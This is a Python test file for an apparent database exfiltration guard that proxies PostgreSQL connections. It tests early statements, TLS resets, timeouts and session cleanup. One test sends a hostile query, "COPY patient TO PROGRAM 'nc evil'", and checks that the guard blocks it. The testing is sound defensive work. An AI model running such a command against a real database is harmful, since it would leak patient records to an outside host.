"""Clients on their way in and out: what they send too early is looked at, what was opened for them is closed whatever they do, and
what the database had sent them is still theirs when it has gone."""

from __future__ import annotations

import asyncio
import socket
import struct
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
import uvloop

from exfilguard.config.schema import Config, KafkaConfig, ListenerConfig
from exfilguard.embedded.child import free_port
from exfilguard.sidecar import _pump, relay, sides
from exfilguard.sidecar._pump import PumpLoop
from exfilguard.sidecar.worker import Guard, Worker
from tests.config.test_certificates import made

SSL_REQUEST = struct.pack("!II", 8, 80877103)
READY = b"R" + struct.pack("!II", 8, 0) + b"Z" + struct.pack("!I", 5) + b"I"
LOOPS = pytest.mark.parametrize("loop", [PumpLoop, uvloop.new_event_loop])

Database = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def message(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("!I", len(body) + 4) + body


STARTUP = message(b"", struct.pack("!I", 196608) + b"user\0app\0\0")


def before(
    database: Database, data_dir: Path, play: Callable[[Guard], Awaitable[None]], loop: Any = PumpLoop, **changes: Any
) -> None:
    """Run `play` beside a guard in front of `database`."""

    async def main() -> None:
        server = await asyncio.start_server(database, "127.0.0.1", 0)
        upstream = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
        listener = ListenerConfig(
            name="dpi", engine="postgres", listen=f"127.0.0.1:{free_port()}", upstream=upstream, **changes
        )
        config = Config(
            tenant="clinic", data_dir=str(data_dir), kafka=KafkaConfig(bootstrap="127.0.0.1:9"), listener=[listener]
        )
        worker = Worker(config, 0)
        guard = worker.guards["dpi"]
        await worker._listen(guard)
        worker._set_screens()
        async with asyncio.timeout(30):
            await play(guard)

    with asyncio.Runner(loop_factory=loop) as runner:
        runner.run(main())


def port_of(guard: Guard) -> int:
    return int(guard.listener.listen.rpartition(":")[2])


async def until(true: Callable[[], bool]) -> None:
    while not true():
        await asyncio.sleep(0.01)


async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while await reader.read(4096):
        pass


@LOOPS
def test_a_statement_behind_the_startup_message_is_looked_at(tmp_path: Path, loop: Any) -> None:
    """Where no password is asked for, both may come in one piece."""
    heard = bytearray()

    async def trusting(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(4096):
            if not heard:
                writer.write(READY)
            heard.extend(data)

    async def play(guard: Guard) -> None:
        _reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
        writer.write(STARTUP + message(b"Q", b"COPY patient TO PROGRAM 'nc evil'\0"))
        await until(lambda: b"Q" in heard[len(STARTUP) :])
        assert heard.startswith(STARTUP)
        assert b"PROGRAM" not in heard
        writer.close()

    before(trusting, tmp_path, play, loop, deny=["server_export"])


@LOOPS
def test_who_resets_during_the_tls_handshake_is_no_longer_counted(tmp_path: Path, loop: Any) -> None:
    """Else each one took a client's place for as long as the relay lives."""
    cert, key = made(tmp_path, "guard")

    def reset(port: int) -> None:
        with socket.create_connection(("127.0.0.1", port)) as link:
            link.sendall(SSL_REQUEST)
            assert link.recv(1) == b"S"
            link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    async def play(guard: Guard) -> None:
        for _ in range(3):
            await asyncio.to_thread(reset, port_of(guard))
        await until(lambda: guard.counters.tls_failures == 3)
        await until(lambda: guard.clients == 0)
        assert guard.lingering == 0

    before(silent, tmp_path / "data", play, loop, tls="terminate", tls_cert=str(cert), tls_key=str(key))


@LOOPS
def test_a_database_that_does_not_answer_about_tls_is_left(
    tmp_path: Path, loop: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(relay, "CONNECT_TIMEOUT_S", 0.2)
    left = asyncio.Event()

    async def hung(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await silent(reader, writer)
        left.set()

    async def play(guard: Guard) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
        writer.write(STARTUP)
        assert b"cannot reach the database" in await reader.read()
        await left.wait()

    before(hung, tmp_path, play, loop, upstream_tls="require")


@LOOPS
def test_a_slow_client_gets_its_rows_after_the_database_has_gone(
    tmp_path: Path, loop: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the relay still has of them is not thrown away while the client makes a pause."""
    monkeypatch.setattr(sides, "LINGER_S", 0.2)
    row = message(b"D", struct.pack("!HI", 1, 1000) + bytes(1000))
    result = message(b"T", struct.pack("!H", 1) + b"a\0" + struct.pack("!IhIhih", 0, 0, 25, -1, -1, 0)) + row * 250

    async def leaving(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read(4096)
        writer.write(READY)
        await reader.readexactly(10)
        writer.write(result)
        await writer.drain()
        writer.close()

    async def play(guard: Guard) -> None:
        running = asyncio.get_running_loop()
        link = socket.socket()
        link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32 << 10)
        link.setblocking(False)
        await running.sock_connect(link, ("127.0.0.1", port_of(guard)))
        await running.sock_sendall(link, STARTUP)
        assert await running.sock_recv(link, 4096) == READY
        (session,) = guard.all_sessions()
        session.client.transport.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 32 << 10)  # type: ignore[union-attr]
        await running.sock_sendall(link, message(b"Q", b"tout\0"))
        await until(lambda: guard.lingering == 1)
        await asyncio.sleep(0.5)
        got = 0
        while data := await running.sock_recv(link, 1 << 20):
            got += len(data)
        link.close()
        assert got == len(result)
        await until(lambda: guard.clients == guard.lingering == 0)

    before(leaving, tmp_path, play, loop)


@LOOPS
@pytest.mark.parametrize("says_end_first", [False, True])
def test_a_client_that_is_gone_ends_its_session_though_rows_still_come(
    tmp_path: Path, loop: Any, says_end_first: bool
) -> None:
    """Rows that nobody takes are not read to their end."""
    row = message(b"D", struct.pack("!HI", 1, 10) + bytes(10))
    begin = message(b"T", struct.pack("!H", 1) + b"a\0" + struct.pack("!IhIhih", 0, 0, 25, -1, -1, 0))
    left = asyncio.Event()

    async def endless(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read(4096)
        writer.write(READY)
        await reader.readexactly(10)
        writer.write(begin)
        try:
            while True:
                writer.write(row)
                await writer.drain()
                await asyncio.sleep(0.01)
        except ConnectionError:
            left.set()

    async def play(guard: Guard) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
        writer.write(STARTUP)
        await reader.readexactly(len(READY))
        writer.write(message(b"Q", b"tout\0"))
        await reader.readexactly(len(begin))
        if says_end_first:
            writer.write_eof()
            await asyncio.sleep(0.1)
            assert len(guard.all_sessions()) == 1
        writer.transport.abort()
        await until(lambda: guard.clients == 0)
        await left.wait()

    before(endless, tmp_path, play, loop)


@pytest.mark.parametrize("stays", [True, False])
def test_a_client_that_ended_and_is_gone_does_not_keep_its_session_until_the_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stays: bool
) -> None:
    """Its end alone does not tell: it may still read, and then has its answer, however late."""
    monkeypatch.setattr(_pump, "KEEP_IDLE_S", 1)
    answer = message(b"C", b"SELECT 0\0") + READY[-6:]
    late = asyncio.Event()

    async def slow(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read(4096)
        writer.write(READY)
        await reader.readexactly(10)
        await late.wait()
        writer.write(answer)
        writer.close()

    async def play(guard: Guard) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
        # How long the kernel still answers for a socket that was closed: a minute, if it is not told.
        writer.get_extra_info("socket").setsockopt(socket.IPPROTO_TCP, socket.TCP_LINGER2, 1)
        writer.write(STARTUP)
        await reader.readexactly(len(READY))
        writer.write(message(b"Q", b"tout\0"))
        await asyncio.sleep(0.1)
        if stays:
            writer.write_eof()
            await asyncio.sleep(2.5)
            assert len(guard.all_sessions()) == 1
            late.set()
            assert await reader.readexactly(len(answer)) == answer
        writer.close()
        await until(lambda: guard.clients == 0)

    before(slow, tmp_path, play)
